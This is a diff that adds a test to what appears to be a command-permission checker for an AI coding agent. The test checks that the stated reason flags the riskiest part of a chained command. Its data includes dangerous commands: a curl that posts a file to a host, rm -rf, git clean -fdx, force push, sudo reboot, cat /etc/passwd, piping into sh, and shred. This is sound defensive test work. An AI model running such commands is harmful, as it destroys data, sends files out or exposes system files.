@@ -339,6 +339,23 @@ describe('protected files', () => {
   });
 });
 
+test('the reason names the part of a list that can break the most', () => {
+  const reason = (command: string) => decide({ mode: 'default', rules: ruleSet({}), call: runs(command) }).reason;
+  for (const [command, worst] of [
+    ['mkdir x && cp a x && rm -rf build && touch y', 'rm -rf build:'],
+    ['npm install && curl -d @a.txt http://x/', 'curl -d @a.txt http://x/:'],
+    ['git add . && git commit -m x && git push --force', 'git push --force:'],
+    ['A=1; touch x; git clean -fdx', 'git clean -fdx:'],
+    ['npm test; timeout 5 sudo reboot', 'timeout 5 sudo reboot:'],
+    ['cp a b; cat /etc/passwd', 'cat /etc/passwd:'],
+    ['touch x | sh', 'sh:'],
+    ['for f in a b; do shred $f; done; echo x > y', 'shred $f:'],
+  ] as const) {
+    expect(reason(command)).toContain(worst);
+  }
+  expect(reason('touch x')).toBe('This command may change things.');
+});
+
 test('the rules of the workspace hold under its real path too', () => {
   const rules = new RuleSet({ allow: ['Edit(/src/**)'], ask: [], deny: ['Read(/secret/**)'] }, ANCHORS);
   const really = {
